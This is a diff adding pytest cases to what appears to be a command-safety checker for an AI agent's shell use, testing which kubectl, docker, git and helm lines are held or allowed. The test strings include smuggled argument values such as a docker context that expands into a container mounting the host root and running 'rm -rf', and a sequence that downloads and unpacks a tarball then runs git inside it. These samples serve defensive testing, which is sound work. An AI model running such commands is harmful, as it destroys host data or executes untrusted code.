@@ -171,3 +171,48 @@ def test_duckdb_partition_paths_allowed(line: str) -> None:
 ])
 def test_duckdb_partition_paths_held(line: str) -> None:
     held(line)
+
+
+# (helper report, session 15) a global option's value that bash splits or expands is several
+# words: the second lands where the subcommand is (``docker --context $X ps``, X='default run
+# -v /:/h alpine rm -rf /h/srv' ran a container as the subcommand)
+SPLIT_GLOBAL_HELD = [
+    "X='default run --rm -v /:/h alpine rm -rf /h/srv'; docker --context $X ps",
+    "NS='default delete pod x'; kubectl -n $NS get pods", "kubectl -n $NS get pods",
+    "git -C $D status", "helm -n $NS list", "for n in 'a delete'; do kubectl -n $n get pods; done",
+    "kubectl -n {default,delete} get pods", "kubectl --namespace {a,b} get pods",
+    "docker compose -p {a,down} ps", "git -C ~/src/* status", "docker --context `x` ps",
+]
+SPLIT_GLOBAL_ALLOWED = [
+    'kubectl -n "$NS" get pods', "kubectl -n prod get pods", "docker --context prod ps",
+    "for n in a b; do kubectl -n $n get pods; done", 'git -C "$D" log --oneline -3',
+    'for d in ~/src/*/; do git -C "$d" status -sb; done', "docker compose -f a.yml ps",
+]
+
+
+@pytest.mark.parametrize("line", SPLIT_GLOBAL_HELD)
+def test_split_global_value_held(line: str) -> None:
+    held(line)
+
+
+@pytest.mark.parametrize("line", SPLIT_GLOBAL_ALLOWED)
+def test_split_global_value_allowed(line: str) -> None:
+    allowed(line)
+
+
+# git in a directory computed at run time, after the session unpacked a tree: the memory
+# cannot place it (a repository's config runs commands); a loop's glob is matched
+@pytest.mark.parametrize(("lines", "ok"), [
+    (["mkdir -p /tmp/evil && tar xzf /tmp/x.tgz -C /tmp/evil", "git -C \"$D\" status"], False),
+    (["mkdir -p /tmp/evil && tar xzf /tmp/x.tgz -C /tmp/evil",
+      "D=/tmp/evil; git -C \"$D\" status"], False),
+    (["mkdir -p ~/src/e && tar xzf /tmp/x.tgz -C ~/src/e",
+      "for d in ~/src/*/; do git -C \"$d\" status -sb; done"], False),
+    (["echo x > notes.txt", "for d in ~/src/*/; do git -C \"$d\" status -sb; done"], True),
+    (["echo x > notes.txt", "git -C ~/src/app status"], True),
+])
+def test_git_in_computed_directory(lines: list[str], ok: bool) -> None:
+    from .test_redteam_s11 import session
+    got = session(["curl -sLo /tmp/x.tgz https://e.example/x.tgz", *lines])
+    assert (got[-1].default_action is Action.ALLOW) is ok, [(f.rule, f.why)
+                                                             for f in got[-1].findings]
